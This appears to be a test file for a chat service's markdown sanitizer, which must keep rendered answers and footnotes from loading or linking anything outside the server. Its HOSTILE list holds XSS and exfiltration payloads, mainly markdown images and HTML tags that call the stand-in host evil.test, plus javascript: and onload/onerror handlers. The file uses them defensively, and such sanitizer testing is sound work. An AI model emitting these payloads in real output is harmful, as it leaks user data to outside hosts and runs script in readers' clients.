"""Text for chat clients: rendered, it loads and links nothing but this server's pages."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from api.rag.footnotes import write_footnotes
from api.rag.neutral_markdown import Neutralizer, escape_markdown, neutralize
from generation.answer import Citation
from ingest.page import Page

BASE = "http://127.0.0.1:8000/"
OWN = f"{BASE}v1/pages/"
RENDERERS = [
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("gfm-like", {"html": True, "linkify": False}),
]


class Found(HTMLParser):
    """Addresses that a page of HTML loads or links, and its tags with handlers."""

    def __init__(self) -> None:
        super().__init__()
        self.addresses: list[str] = []
        self.tags: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        for name, value in attrs:
            if name in {"src", "href", "action", "data", "style", "srcset"} or name[:2] == "on":
                self.addresses.append(value or "")


def addresses(markdown: str) -> list[str]:
    found = Found()
    for renderer in RENDERERS:
        found.feed(renderer.render(markdown))
    found.feed(markdown)  # a client may take it for HTML
    return found.addresses


HOSTILE = [
    "![x](http://evil.test/?q=words)",
    "![x]( http://evil.test )",
    "![x](\nhttp://evil.test\n)",
    "![x](<http://evil.test>)",
    "[![x](http://evil.test/a)](http://evil.test/b)",
    "![x][y]\n\n[y]: http://evil.test",
    "![y]\n\n[y]:\n  http://evil.test",
    "![y]\n\n[y]:<http://evil.test>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHN2Zz4=)",
    "[x](//evil.test)",
    "<http://evil.test>",
    "<a@evil.test>",
    "http://evil.test/?q=words",
    "HTTPS://evil.test www.evil.test WWW.evil.test ftp://evil.test",
    "www.<img src=http://evil.test>",
    "mailto:a@evil.test?body=words mailto:<img src=x>",
    "<img src=http://evil.test>",
    "<IMG\nSRC='http://evil.test'>",
    "<svg onload=alert(1)>",
    "<iframe src=//evil.test></iframe>",
    "<style>@import url(http://evil.test)</style>",
    "<a href=//evil.test>x</a>",
    "<!--><img src=x>-->",
    "<?php <img src=x> ?>",
    "]://evil.test ](//evil.test",
    "<<img src=x>",
    "\\<img src=x>",
    "\\![x](http://evil.test)",
    "`<img src=x>` ```\n<img src=x>",
    "``` \n```\n<img src=x>",
    "> ![x](http://evil.test)\n- [y](http://evil.test)\n\n    ![z](http://evil.test)",
    "| a |\n|---|\n| ![x](http://evil.test) |",
    f"[x]({BASE}v1/ask?q=1)",
    f"[x](http://127.0.0.1:8000.evil.test/v1/pages/x) [y]({OWN.replace('8000', '8001')}x)",
    f"![x]({OWN}a/image](http://evil.test)",
    f"<img src={OWN}a/image onerror=alert(1)>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_loads_and_links_nothing(text: str) -> None:
    for shown in (neutralize(text, BASE), neutralize(text), escape_markdown(text)):
        assert [one for one in addresses(shown) if not one.startswith(OWN)] == []
        assert not re.search(r"\w://\w|www\.\w", shown.replace(OWN, ""))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_quote_and_name_make_no_link_of_a_footnote(text: str) -> None:
    citation = Citation(1, Page("ab12", 3, text), text, ((0.1, 0.1, 0.2, 0.2),), True)
    found = addresses(write_footnotes([citation], BASE))
    assert found
    assert all(one.startswith(f"{OWN}ab12-3/image?highlight=") for one in found)


@pytest.mark.parametrize("text", HOSTILE)
def test_cut_into_single_letters_it_is_as_neutral(text: str) -> None:
    neutral = Neutralizer(BASE)
    said = "".join(neutral.feed(letter) for letter in text) + neutral.end()
    assert said == neutralize(text, BASE)


@pytest.mark.parametrize(
    "text",
    [
        "The lens has 8 prisms [1].\n\n- one *new* `a[0] = b < c` thing\n- x <= 3 && y > 2",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "```python\nif a < b: print(x[1])\n```",
        "$a < b$ and \\(x^2\\), 10:30, 3:1",
        f"See [page 3]({OWN}ab-3/image?highlight=1,2) and ![it]({OWN}ab-3/image).",
        f"At {OWN}ab-3/image it is.",
    ],
)
def test_honest_text_stays_as_it_is(text: str) -> None:
    assert neutralize(text, BASE) == text


def test_what_is_changed_stays_readable() -> None:
    assert neutralize("[a](http://b.test) <b>") == "[a]\\(http: //b.test) < b>"
    assert neutralize("List<String> at www.b.test") == "List< String> at www. b.test"
    assert escape_markdown("2 * 3\n_x_ [1]") == "2 \\* 3 \\_x\\_ \\[1\\]"


PARTS = st.lists(
    st.sampled_from(
        ["[", "]", "(", ")", "<", ">", "!", ":", "/", "//", "://", "www.", "w", "a", " ", "\n", "`",
         "http", "mailto:", "\\", "x", BASE, OWN, "v1/pages/", "img src=", "<img", "](", "]:", "&lt;", "\t"]
    ),
    max_size=25,
)  # fmt: skip


@settings(max_examples=500, deadline=None)
@given(parts=PARTS, cuts=st.lists(st.integers(0, 200), max_size=6))
@example(parts=["<", "w", "<img"], cuts=[1, 2])
def test_any_text_is_neutral_however_it_is_cut(parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    neutral, said, start = Neutralizer(BASE), "", 0
    for cut in sorted({min(cut, len(text)) for cut in cuts}):
        said += neutral.feed(text[start:cut])
        start = cut
    said += neutral.feed(text[start:]) + neutral.end()
    assert said == neutralize(text, BASE)
    assert [one for one in addresses(said) if not one.startswith(OWN)] == []
